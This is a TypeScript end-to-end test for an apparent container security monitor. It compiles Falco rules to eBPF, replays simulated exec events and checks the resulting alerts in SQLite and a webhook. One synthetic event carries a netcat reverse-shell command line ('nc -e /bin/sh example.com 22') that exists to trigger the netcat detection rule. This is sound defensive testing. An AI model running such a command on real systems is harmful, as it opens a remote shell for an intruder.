// End to end with the real pieces: Falco's stable rules compiled to eBPF, programs attached to
// the simulated kernel, records written by the compiled bytecode, drained by the alert engine
// into SQLite and delivered to a loopback webhook. Output text is compared with the reference
// renderer on the same event.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { loadRules } from '../rules/loader/index.js';
import { compileRuleSet, type CompiledRuleSet } from '../rules/compiler/index.js';
import { attachRuleSet } from '../rules/compiler/attach.js';
import { createEngineKernel } from '../collectors/kernel/engine.js';
import { RingBufConsumer } from '../engine/maps/index.js';
import { renderOutput } from '../rules/output.js';
import type { KestrelEvent } from '../collectors/events.js';
import { createAlertEngine, dropCounterReader, ringSource } from './engine.js';
import { compiledRuleOptions } from './compiled.js';
import { processTableEnricher } from './enrich.js';
import { startReceiver, waitFor } from './testing/receiver.js';
import { tempDir } from './test-helpers.js';

const RULES = ['Terminal shell in container', 'Netcat Remote Code Execution in Container'];
let compiled: CompiledRuleSet;
let tmp: ReturnType<typeof tempDir>;

beforeAll(() => {
  tmp = tempDir();
  const set = loadRules([join(import.meta.dirname, '..', 'rules', 'builtin', '00-falco-stable.yaml')]);
  expect(set.errors).toEqual([]);
  compiled = compileRuleSet(set, { only: RULES });
});
afterAll(() => tmp.cleanup());

describe('compiled rules → ring buffer → incidents → webhook', () => {
  it('stores what the bytecode wrote, rendered like the reference renderer', async () => {
    const rx = await startReceiver();
    const ek = createEngineKernel({});
    const attached = attachRuleSet(ek, compiled);
    const engine = createAlertEngine({
      db: join(tmp.dir, 'e2e.db'),
      ...compiledRuleOptions(compiled),
      enricher: processTableEnricher(ek.kernel.table),
      hostname: 'node-e2e',
      // The simulated kernel's ktime counts from its boot; add the boot's wall time back.
      clock: (k) => k + ek.kernel.env.bootWallNs,
      webhooks: [{ url: rx.url, secret: 'k' }],
      delivery: { pollMs: 10 },
    });
    engine.attach(ringSource(attached.ringbuf, new RingBufConsumer(attached.ringbuf), dropCounterReader(attached.drops), 'rules'));
    try {
      const events: KestrelEvent[] = [
        { type: 'exec', ts: 1_700_000_000_000_000_000n, pid: 300, ppid: 1, exe: '/usr/bin/runc', argv: ['runc'] },
        { type: 'exec', ts: 1_700_000_000_100_000_000n, pid: 301, ppid: 300, exe: '/bin/bash', argv: ['bash'], tty: 34816, container: { id: '3ad7b26ded6d', image: 'nginx:1.27' } },
        { type: 'exec', ts: 1_700_000_000_200_000_000n, pid: 500, ppid: 1, exe: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', 'example.com', '22'], container: { id: 'c0ffee000011', image: 'alpine:3.20' } },
      ];
      const expected = new Map<string, string>();
      for (const ev of events) {
        for (const { context } of ek.kernel.handle(ev)) {
          for (const r of compiled.ruleTable.rules) if (r !== undefined && ev.pid !== 300) expected.set(`${r.name}@${ev.pid}`, renderOutput(r.output, context));
        }
      }
      engine.drainNow();
      const list = engine.store.list();
      expect(list.map((i) => i.rule).sort()).toEqual([...RULES].sort());
      const shell = list.find((i) => i.rule === RULES[0]);
      expect(shell).toMatchObject({ container_id: '3ad7b26ded6d', pid: 301, hostname: 'node-e2e', priority: 'Notice', first_seen: '2023-11-14T22:13:20.100000000Z' });
      // user_loginuid and exe_flags are derived differently by the compiler's deriveOutputs and
      // the reference renderer (-1 vs <NA>, evt.arg.flags not carried, an unset tty 0 vs <NA>);
      // compare the rest.
      const mask = (s: string | undefined): string | undefined => s?.replace(/user_loginuid=\S+/, 'user_loginuid=?').replace(/exe_flags=\S+/, 'exe_flags=?').replace(/terminal=\S+/, 'terminal=?');
      expect(mask(shell?.output)).toBe(mask(expected.get(`${RULES[0]}@301`)));
      expect(shell?.output_fields).toMatchObject({ 'proc.name': 'bash', 'proc.pname': 'runc', 'proc.tty': 34816 });
      const nc = list.find((i) => i.rule === RULES[1]);
      expect(mask(nc?.output)).toBe(mask(expected.get(`${RULES[1]}@500`)));
      expect(nc?.process).toMatchObject({ pid: 500, exe: '/usr/bin/nc' });
      expect(await waitFor(() => rx.requests.length === 2, 5000)).toBe(true);
      const bodies = rx.requests.map((r) => JSON.parse(r.body) as { rule: string; output: string }).sort((a, b) => a.rule.localeCompare(b.rule));
      expect(bodies[0].output).toContain(nc?.output ?? 'x');
      expect(engine.metrics()).toMatchObject({ records_malformed: 0, drops_ringbuf: 0 });
    } finally {
      await engine.close(100);
      await rx.close();
    }
  });
});
